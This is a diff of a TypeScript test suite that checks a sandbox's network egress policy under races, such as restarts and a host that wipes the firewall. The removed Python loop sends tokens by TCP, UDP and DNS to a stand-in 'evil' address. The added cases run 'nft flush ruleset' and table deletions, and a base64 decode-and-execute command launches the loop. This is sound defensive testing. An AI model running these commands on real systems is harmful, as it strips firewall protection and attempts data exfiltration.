@@ -1,10 +1,14 @@
 // Moments: a sandbox that attacks all the time while something happens to it, to its policy or to egress. Nothing of it may arrive, or
 // nothing after the policy has been answered for.
 
-import { readdirSync, readFileSync } from 'node:fs'
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { setTimeout as delay } from 'node:timers/promises'
+import { tableName } from '../../../egress/nft/rules.ts'
 import type { NetworkPolicy } from '../../../lib/api/network-policy.ts'
-import { FIRST_PORT, GOOD, OPEN, TOKEN_PREFIX } from './internet.ts'
+import { instanceOf } from '../../../lib/instance.ts'
+import { endEgress, repaired, runHere, stateOf } from './happenings.ts'
+import { FIRST_PORT, OPEN, TOKEN_PREFIX } from './internet.ts'
 import type { Outcome } from './outcome.ts'
 import type { AttackSandbox } from './product.ts'
 import type { World } from './world.ts'
@@ -14,7 +18,6 @@ const FIRST_NUMBER = 400
 /** What is on its way when a policy is answered for may still arrive. */
 const SLACK_SECONDS = 0.25
 const KILLS = 20
-const RESTART_MS = 30_000
 
 const DENIED: NetworkPolicy = { defaultAction: 'deny', egress: [] }
 const allowing = (...targets: string[]): NetworkPolicy => ({
@@ -22,47 +25,22 @@ const allowing = (...targets: string[]): NetworkPolicy => ({
   egress: targets.map((target) => ({ action: 'allow', target })),
 })
 
-/** Attacks by everything at once until it is killed: what no policy opens, and what some policies do. */
-const LOOP = `
-import errno, random, socket, struct, sys, time
-number, first_port, prefix, kinds = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4].split(",")
-token, port = f"{prefix}{number}x".encode(), first_port + number
-evil = f"192.0.{2 + number // 250}.{number % 250}"
-held = []
-datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-datagrams.setblocking(False)
-lookups = b"".join(bytes([len(p)]) + p for p in (token, b"evil", b"test")) + b"\\0" + struct.pack("!2H", 1, 1)
-def udp(to, what):
-    try: datagrams.sendto(what, to)
-    except OSError: pass
-def tcp(to):
-    one = socket.socket()
-    one.setblocking(False)
-    one.connect_ex(to)
-    held.append(one)
-    if len(held) > 40: held.pop(0).close()
-stream = None
-def http(host):
-    global stream
-    try:
-        if stream is None:
-            stream = socket.create_connection(("${GOOD}", 80), 0.5)
-            stream.settimeout(0.5)
-        stream.sendall(b"GET /" + token + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n")
-        if not stream.recv(4096): raise OSError
-    except OSError:
-        if stream: stream.close()
-        stream = None
-while True:
-    if "evil" in kinds:
-        tcp((evil, port)); udp((evil, port), token)
-        udp(("8.8.8.8", 53), struct.pack("!6H", random.randrange(65536), 256, 1, 0, 0, 0) + lookups)
-    if "twin" in kinds: http(b"twin.example")
-    if "good" in kinds: http(b"good.example")
-    if "open" in kinds: tcp(("${OPEN}", port)); udp(("${OPEN}", port), token)
-    if "learn" in kinds: udp(("8.8.8.8", 53), struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\\4good\\7example\\0" + struct.pack("!2H", 1, 1))
-    time.sleep(0.004)
-`
+/** What somebody else on the machine does to the rules. */
+const REMOVALS: Record<string, { what: string; commands(table: string): string[][] }> = {
+  'B6-host-flush': {
+    what: 'every rule of the machine removed by somebody else',
+    commands: () => [['nft', 'flush', 'ruleset']],
+  },
+  'B6-host-delete': {
+    what: 'the table of egress removed by somebody else',
+    commands: (table) => [['nft', 'delete', 'table', 'inet', table]],
+  },
+  'B6-host-empty': {
+    what: 'the table of egress emptied by somebody else',
+    commands: (table) => [['nft', 'flush', 'table', 'inet', table]],
+  },
+}
+const REPEATS = 2
 
 type Verdict = { seen: string; wrong?: string; arrived?: boolean }
 type Race = { id: string; what: string; run(world: World, attack: Attack): Promise<Verdict> }
@@ -143,6 +121,19 @@ export const RACES: readonly Race[] = [
         return '3 pauses'
       }),
   },
+  ...Object.entries(REMOVALS).map(([id, { what, commands }]) => ({
+    id,
+    what,
+    run: (world: World, attack: Attack) =>
+      during(world, attack, allowing('good.example'), async ({ id: sandbox }) => {
+        for (let n = 0; n < REPEATS; n++) {
+          for (const command of commands(tableName(instanceOf(world.edge.dataDir).key)))
+            await runHere(command)
+          await repaired(world, sandbox)
+        }
+        return `${REPEATS} times, each repaired`
+      }),
+  })),
   {
     id: 'B7-terminate',
     what: 'egress told to stop',
@@ -192,7 +183,7 @@ export async function runRaces(world: World): Promise<Outcome[]> {
   const outcomes: Outcome[] = []
   for (const [index, { id, what, run }] of RACES.entries()) {
     const number = FIRST_NUMBER + index
-    const program = Buffer.from(LOOP).toString('base64')
+    const program = readFileSync(join(import.meta.dirname, 'loop.py'), 'base64')
     const verdict = await run(world, {
       command: (kinds) =>
         `(echo ${program} | base64 -d > /tmp/loop.py; exec python3 /tmp/loop.py ${number} ${FIRST_PORT} ${TOKEN_PREFIX} ${kinds})`,
@@ -247,48 +238,4 @@ async function narrow(
   } finally {
     await product.remove(sandbox.id)
   }
-}
-
-async function stateOf({ product }: World, id: string, wanted: string): Promise<void> {
-  const deadline = performance.now() + 15_000
-  while (performance.now() < deadline) {
-    const { status } = (await product.call('GET', `/sandboxes/${id}`)) as { status: { state: string } }
-    if (status.state === wanted) return
-    await delay(20)
-  }
-  throw new Error(`Sandbox "${id}" is not ${wanted} in time`)
-}
-
-/** Resolves when the launcher has started another one, which holds its policies again. */
-async function endEgress({ edge, product, attacker }: World, signal: NodeJS.Signals): Promise<void> {
-  const before = egressOf(edge.launcherPid)
-  if (before !== undefined) process.kill(before, signal)
-  const deadline = performance.now() + RESTART_MS
-  while (performance.now() < deadline) {
-    const now = egressOf(edge.launcherPid)
-    if (now !== undefined && now !== before) {
-      const ready = await product
-        .call('GET', `/sandboxes/${attacker.id}/networkpolicy`)
-        .catch(() => undefined)
-      if (ready) return
-    }
-    await delay(20)
-  }
-  throw new Error('Egress was not started again in time')
-}
-
-function egressOf(launcher: number): number | undefined {
-  for (const name of readdirSync('/proc')) {
-    if (!/^\d+$/.test(name)) continue
-    try {
-      const isChild = new RegExp(`^PPid:\\s+${launcher}$`, 'm').test(
-        readFileSync(`/proc/${name}/status`, 'utf8'),
-      )
-      if (isChild && readFileSync(`/proc/${name}/cmdline`, 'utf8').includes('egress/main.ts'))
-        return Number(name)
-    } catch {
-      // It has ended meanwhile.
-    }
-  }
-  return undefined
 }
